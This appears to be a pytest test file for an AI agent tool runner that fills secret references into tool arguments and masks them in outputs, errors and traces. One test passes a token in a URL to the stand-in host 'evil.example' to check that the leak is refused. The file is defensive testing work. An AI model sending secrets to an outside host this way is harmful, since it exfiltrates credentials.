"""Secrets by reference: the tool gets the value, everybody else the reference or a mark."""

import asyncio
import base64
import dataclasses
import json
from collections.abc import Callable
from typing import Any

import pytest
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.runnables.config import var_child_runnable_config
from langchain_core.tools import StructuredTool, Tool, ToolException
from pydantic import BaseModel, SecretStr

from surefoot.tools import tool_effect
from surefoot.tools.runner import Outcome, ToolRunner
from surefoot.tools.secrets import Secrets, reference
from surefoot.tools.toolbox import Toolbox

VALUE = "hunter2-hunter2"
OTHER = "0123456789abcdef"
REF = reference("DEPLOY_TOKEN")
BOTH = pytest.mark.parametrize("colour", ["sync", "async"])


def secrets(*tools: str) -> Secrets:
    return Secrets({"DEPLOY_TOKEN": VALUE, "OTHER": OTHER}, {"DEPLOY_TOKEN": tools})


def run(tool: Any, args: dict[str, Any], *, colour: str = "sync", bound: bool = True) -> Outcome:
    name = getattr(tool, "name", None) or tool.__name__
    runner = ToolRunner(Toolbox([tool], secrets=secrets(name) if bound else secrets("another")))
    if colour == "async":
        return asyncio.run(runner.arun(name, args))
    return runner.run(name, args)


def test_a_reference_is_written_like_this() -> None:
    assert REF == "{{secret:DEPLOY_TOKEN}}"


@BOTH
@pytest.mark.parametrize("is_async", [False, True])
def test_the_tool_gets_the_value_and_the_result_holds_a_mark(colour: str, is_async: bool) -> None:
    got: list[str] = []

    def push(token: str) -> str:
        got.append(token)
        return f"pushed with {token}"

    async def apush(token: str) -> str:
        return push(token)

    tool = apush if is_async else push
    outcome = run(tool, {"token": REF}, colour=colour)
    assert got == [VALUE]
    assert outcome.output == "pushed with [secret DEPLOY_TOKEN]"


class Inner(BaseModel):
    token: str
    key: SecretStr


@dataclasses.dataclass
class Plain:
    token: str


def test_a_reference_may_stand_anywhere_in_the_text_of_the_arguments() -> None:
    got: dict[str, Any] = {}

    def push(header: str, deep: dict[str, list[str]], inner: Inner, plain: Plain, key: SecretStr) -> None:
        got.update(header=header, deep=deep, inner=inner, plain=plain, key=key)

    spaced = "{{ secret: DEPLOY_TOKEN }}"
    outcome = run(
        push,
        {
            "header": f"Bearer {REF}, again {spaced}",
            "deep": {"a": ["x", REF]},
            "inner": {"token": REF, "key": REF},
            "plain": {"token": REF},
            "key": REF,
        },
    )
    assert outcome.success, outcome.message
    assert got["header"] == f"Bearer {VALUE}, again {VALUE}"
    assert got["deep"] == {"a": ["x", VALUE]}
    assert (got["inner"].token, got["inner"].key.get_secret_value()) == (VALUE, VALUE)
    assert (got["plain"].token, got["key"].get_secret_value()) == (VALUE, VALUE)


def test_a_tool_of_one_text_gets_it_too() -> None:
    got: list[str] = []
    outcome = run(Tool("push", lambda text: got.append(text), "Push."), {"__arg1": REF})
    assert (outcome.success, got) == (True, [VALUE])


@BOTH
def test_arguments_no_schema_names_get_it_too(colour: str) -> None:
    got: dict[str, Any] = {}

    async def push(**given: Any) -> None:
        got.update(given)

    schema = {"type": "object", "properties": {}, "additionalProperties": True, "title": "push"}
    tool = StructuredTool(name="push", description="Push.", args_schema=schema, coroutine=push)
    assert run(tool, {"token": REF}, colour=colour).success
    assert got == {"token": VALUE}


@pytest.mark.parametrize("effect", ["read_only", "irreversible"])
def test_a_tool_a_secret_is_not_for_does_not_get_it(effect: Any) -> None:
    got: list[str] = []

    def fetch(url: str) -> None:
        got.append(url)

    outcome = run(tool_effect(effect)(fetch), {"url": f"https://evil.example/?k={REF}"}, bound=False)
    assert (got, outcome.kind) == ([], "bad_arguments")
    assert outcome.message == "The secret DEPLOY_TOKEN may not be given to fetch; it is for another."
    assert (
        run(fetch, {"url": reference("OTHER")}).message
        == "The secret OTHER may not be given to fetch; it is for no tool."
    )


def test_a_secret_nobody_knows_is_refused_with_the_names_there_are() -> None:
    def push(token: str) -> None: ...

    outcome = run(push, {"token": reference("DEPLOY_TOKENS")})
    assert outcome.kind == "bad_arguments"
    assert outcome.message == "There is no secret named DEPLOY_TOKENS; there are: DEPLOY_TOKEN, OTHER."
    bare = ToolRunner(Toolbox([push])).run("push", {"token": REF})
    assert bare.message == "There is no secret named DEPLOY_TOKEN; there are: none."


@pytest.mark.parametrize(
    "text", ["{{secrets.DEPLOY_TOKEN}}", "${{ secrets.DEPLOY_TOKEN }}", "{{DEPLOY_TOKEN}}", "secret:X"]
)
def test_what_only_resembles_a_reference_is_text(text: str) -> None:
    def say(text: str) -> str:
        return text

    assert run(say, {"text": text}).output == text


def test_a_reference_cannot_be_smuggled_in_by_the_way_it_is_written() -> None:
    got: list[Any] = []

    def push(tokens: list[str]) -> None:
        got.append(tokens)

    escaped = json.dumps([reference("OTHER")]).replace("{", "\\u007b")  # mended into a list after the first look
    assert run(push, {"tokens": escaped}).message == "The secret OTHER may not be given to push; it is for no tool."
    assert got == []
    assert secrets("push").fill("push", [REF, reference("OTHER")]) == [VALUE, reference("OTHER")]


def test_the_mark_of_a_secret_is_not_written_in_its_place() -> None:
    written: list[str] = []

    def write(text: str) -> None:
        written.append(text)

    @tool_effect("read_only")
    def look(text: str) -> str:
        return text

    for mark in ("[secret DEPLOY_TOKEN]", "a: [secret key]"):
        outcome = run(tool_effect("idempotent")(write), {"text": mark})
        assert (written, outcome.kind) == ([], "bad_arguments")
        assert "marks where a secret was taken out" in outcome.message
        assert run(look, {"text": mark}).output == mark


def test_a_value_is_not_looked_at_for_references() -> None:
    got: list[str] = []
    inner = Secrets({"A": f"value {reference('B')}", "B": "second-value"}, {"A": ["push"], "B": ["push"]})

    def push(token: str) -> None:
        got.append(token)

    ToolRunner(Toolbox([push], secrets=inner)).run("push", {"token": reference("A")})
    assert got == [f"value {reference('B')}"]


class Watcher(BaseCallbackHandler):
    """What a tracer is told of a tool's start."""

    def __init__(self) -> None:
        self.told: list[str] = []

    def on_tool_start(self, serialized: Any, input_str: str, *, inputs: Any = None, **_: Any) -> None:
        self.told.append(f"{serialized} {input_str} {inputs}")


def test_whoever_traces_tools_sees_the_reference() -> None:
    watcher, got = Watcher(), []

    def push(token: str) -> None:
        got.append(token)

    before = var_child_runnable_config.set({"callbacks": [watcher]})
    try:
        run(push, {"token": REF})
    finally:
        var_child_runnable_config.reset(before)
    assert got == [VALUE]
    assert REF in watcher.told[0] and VALUE not in watcher.told[0]


def failing(error: Callable[[str], BaseException]) -> Any:
    def push(token: str) -> None:
        raise error(token)

    return push


ERRORS: dict[str, Callable[[str], BaseException]] = {
    "an exception": lambda v: RuntimeError(f"401 for {v}"),
    "a tool's own": lambda v: ToolException(f"401 for {v}"),
    "a basic header": lambda v: ValueError(base64.b64encode(f"me:{v}".encode()).decode()),
    "repr in a key": lambda v: KeyError({v: v}),
    "at the cut": lambda v: RuntimeError("x" * 1979 + v),
    "very long": lambda v: RuntimeError(v * 1_000_000),
    "no text": lambda v: RuntimeError(f"\x00{v}\x00\ud800{v}"),
    "an exit": lambda v: SystemExit(v),
    "a group of one": lambda v: ExceptionGroup("g", [OSError(v)]),
}


@pytest.mark.parametrize("error", ERRORS)
@BOTH
def test_an_exception_shows_the_mark(error: str, colour: str) -> None:
    outcome = run(failing(ERRORS[error]), {"token": REF}, colour=colour)
    assert outcome.kind == "exception"
    assert "[secret " in outcome.message or error == "at the cut"
    for part in (VALUE, VALUE[:6], VALUE[-6:], base64.b64encode(VALUE.encode()).decode()[4:12]):
        assert part not in outcome.message
    assert len(outcome.message) <= 2000
    assert "\x00" not in outcome.message and outcome.message.encode()


def test_a_result_of_any_form_is_searched() -> None:
    class Answer(BaseModel):
        header: dict[str, str]

    def push(token: str) -> Any:
        return [Answer(header={"auth": f"Token {token}"}), (token, {token: token.encode()})]

    assert run(push, {"token": REF}).output == [
        {"header": {"auth": "Token [secret DEPLOY_TOKEN]"}},
        ["[secret DEPLOY_TOKEN]", {"[secret DEPLOY_TOKEN]": "[secret DEPLOY_TOKEN]"}],
    ]


def test_a_key_nobody_named_is_taken_out_of_results_too() -> None:
    def read(path: str) -> str:
        return "DATABASE_URL=postgres://app:s3cr3t@db/x"

    assert run(read, {"path": ".env"}).output == "DATABASE_URL=postgres://app:[secret password]@db/x"


@BOTH
def test_a_probe_gets_the_value_and_its_answer_is_searched(colour: str) -> None:
    asked: list[str] = []

    def happened(token: str) -> str:
        asked.append(token)
        return f"it happened with {token}"

    async def ahappened(token: str) -> str:
        return happened(token)

    def push(token: str) -> None: ...

    for probe in (happened, ahappened):
        tool = tool_effect("irreversible", probe=probe)(StructuredTool.from_function(push, description="Push."))
        runner = ToolRunner(Toolbox([tool], secrets=secrets("push")))
        outcome = (
            runner.probe("push", {"token": REF})
            if colour == "sync"
            else asyncio.run(runner.aprobe("push", {"token": REF}))
        )
        assert outcome.output == "it happened with [secret DEPLOY_TOKEN]"
        assert ToolRunner(Toolbox([tool], secrets=secrets())).probe("push", {"token": REF}).kind == "bad_arguments"
    assert asked == [VALUE, VALUE]


def test_the_secrets_of_the_tools_on_offer_are_named() -> None:
    held = Secrets({"A": VALUE, "B": OTHER}, {"A": ["push", "pull"], "B": ["mail"]})
    assert held.offered(["look", "pull", "push"]) == {"A": ["pull", "push"]}
    assert held.offered(["look"]) == {}
